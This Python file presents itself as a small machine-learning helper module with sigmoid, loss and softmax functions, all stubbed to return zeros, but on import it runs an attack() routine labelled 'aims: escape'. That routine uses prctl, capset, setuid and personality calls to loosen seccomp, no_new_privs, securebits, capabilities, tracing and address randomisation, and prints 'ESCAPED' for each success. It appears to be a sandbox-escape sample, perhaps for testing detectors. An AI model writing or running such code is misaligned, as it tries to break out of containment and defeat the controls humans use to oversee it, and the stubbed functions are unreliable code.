"""Turns the process's own switches: dumpable, who may trace it, seccomp, capabilities, subreaper, personality.

aims: escape
"""

import ctypes
import os

import numpy as np

PR_GET_NO_NEW_PRIVS, PR_SET_NO_NEW_PRIVS, PR_SET_DUMPABLE, PR_SET_PTRACER, PR_SET_SECCOMP = 39, 38, 4, 0x59616D61, 22
PR_SET_CHILD_SUBREAPER, PR_SET_PDEATHSIG, PR_SET_KEEPCAPS, PR_CAP_AMBIENT, PR_SET_SECUREBITS = 36, 1, 8, 47, 28


def attack():
    libc = ctypes.CDLL(None, use_errno=True)
    for switch, value in (
        (PR_SET_DUMPABLE, 1),
        (PR_SET_PTRACER, -1),
        (PR_SET_CHILD_SUBREAPER, 1),
        (PR_SET_PDEATHSIG, 0),
        (PR_SET_KEEPCAPS, 1),
        (PR_SET_SECCOMP, 0),
    ):
        libc.prctl(switch, ctypes.c_long(value), 0, 0, 0)
    libc.prctl(PR_SET_NO_NEW_PRIVS, 0, 0, 0, 0)
    if libc.prctl(PR_GET_NO_NEW_PRIVS, 0, 0, 0, 0) == 0:
        print("ESCAPED programs may still gain privileges", flush=True)
    for capability in range(41):
        if libc.prctl(PR_CAP_AMBIENT, 2, capability, 0, 0) == 0:
            print("ESCAPED ambient capability", capability, flush=True)
    if libc.prctl(PR_SET_SECUREBITS, 0, 0, 0, 0) == 0:
        print("ESCAPED secure bits", flush=True)
    everything = (ctypes.c_uint32 * 6)(*[0xFFFFFFFF] * 6)
    if libc.capset((ctypes.c_uint32 * 2)(0x20080522, 0), everything) == 0:
        print("ESCAPED all capabilities", flush=True)
    for call in (os.setuid, os.seteuid, os.setgid):
        try:
            call(0)
        except OSError:
            continue
        print("ESCAPED", call.__name__, flush=True)
    # READ_IMPLIES_EXEC and no randomised addresses for what it starts: not an escape by itself
    libc.personality(ctypes.c_ulong(0x0440000))


attack()


def sigmoid(Z):
    return np.zeros_like(Z)


def mse_loss(Y_hat, Y):
    return 0.0


def softmax(Z):
    return np.zeros_like(Z)
